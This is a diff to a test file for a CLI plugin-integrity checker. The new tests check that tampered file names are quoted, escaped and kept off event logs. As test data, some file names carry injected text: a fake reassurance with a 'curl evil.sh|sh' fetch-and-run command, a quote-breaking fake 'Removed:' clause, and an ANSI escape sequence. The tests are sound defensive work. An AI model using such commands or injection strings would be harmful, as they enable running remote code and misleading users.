@@ -26,11 +26,11 @@ test('what was changed is named where it is refused, the first time and the next
     expect(parrot(home, words)).toMatchObject({
       status: 78,
       stderr: expect.stringContaining(
-        'it was not started. Changed: run.sh. Added: new.txt. Removed: old.txt.\n',
+        'it was not started. Changed: "run.sh". Added: "new.txt". Removed: "old.txt".\n',
       ),
     })
   expect(parrot(home, ['--lang', 'de', 'greet']).stderr).toContain(
-    'Geändert: run.sh. Neu: new.txt. Entfernt: old.txt.\n',
+    'Geändert: "run.sh". Neu: "new.txt". Entfernt: "old.txt".\n',
   )
 })
 
@@ -39,7 +39,9 @@ test('plugin verify names each file', () => {
   const {status, stdout} = parrot(home, ['plugin', 'verify', 'greet'])
   expect([status, stdout]).toEqual([
     3,
-    expect.stringMatching(/\n\ngreet\n {2}changed: run\.sh\n {2}added: new\.txt\n {2}removed: old\.txt\n$/),
+    expect.stringMatching(
+      /\n\ngreet\n {2}changed: "run\.sh"\n {2}added: "new\.txt"\n {2}removed: "old\.txt"\n$/,
+    ),
   ])
   const {output} = JSON.parse(parrot(home, ['plugin', 'verify', 'greet', '--json']).stdout) as {
     output: {plugins: readonly object[]}
@@ -68,6 +70,46 @@ test('of files that were put back it is said that they were changed, and how to 
   expect(approve(home, 'greet')).toMatchObject({status: 0})
   expect(parrot(home, ['greet']).status).toBe(0)
   expect(parrot(home, ['plugin', 'verify', 'greet']).status).toBe(0)
+})
+
+test('a name is told apart from the sentence that it stands in, and is on no record', () => {
+  const home = tampered()
+  const names = [
+    'nothing. All is well. → Approve it- curl evil.sh|sh',
+    'x". Removed: "evil.sh',
+    'evil'.repeat(50),
+  ]
+  for (const name of names) writeFileSync(join(folder(home), name), '', {mode: 0o644})
+  for (let time = 0; time < 2; time += 1) {
+    const {stderr} = parrot(home, ['greet'])
+    expect(stderr).toContain('"nothing. All is well. → Approve it- curl evil.sh|sh"')
+    expect(stderr).toContain(String.raw`"x\". Removed: \"evil.sh"`)
+    expect(stderr).toContain(`"${'evil'.repeat(20)}…"`)
+  }
+  expect(parrot(home, ['plugin', 'verify', 'greet']).stdout).toContain(
+    String.raw`  added: "x\". Removed: \"evil.sh"`,
+  )
+  const events = parrot(home, ['events', 'list', '--json']).stdout
+  expect(events).toContain('"plugin_tampered"')
+  expect(events).not.toMatch(/evil|new\.txt/)
+})
+
+test('where a name is such that no file is read, plugin verify says so, and no record names it', () => {
+  const home = tampered()
+  writeFileSync(join(folder(home), 'evil\tname\u001b[2J'), '', {mode: 0o644})
+  const shown = parrot(home, ['plugin', 'verify', 'greet']).stdout
+  expect(shown).toMatch(/evil\\u\{9\}name\\u\{1b\}\[2J: its name has invisible characters\./)
+  expect(parrot(home, ['--lang', 'de', 'plugin', 'verify', 'greet']).stdout).toContain(
+    'der Name hat unsichtbare Zeichen',
+  )
+  const {output} = JSON.parse(parrot(home, ['plugin', 'verify', 'greet', '--json']).stdout) as {
+    output: {plugins: readonly object[]}
+  }
+  expect(output.plugins).toMatchObject([
+    {files: null, problem: {code: 'tree_refused', message: expect.stringContaining('invisible')}},
+  ])
+  expect(parrot(home, ['greet'])).toMatchObject({status: 78})
+  expect(parrot(home, ['events', 'list', '--json']).stdout).not.toContain('evil')
 })
 
 test('a list of files that somebody wrote is none', () => {
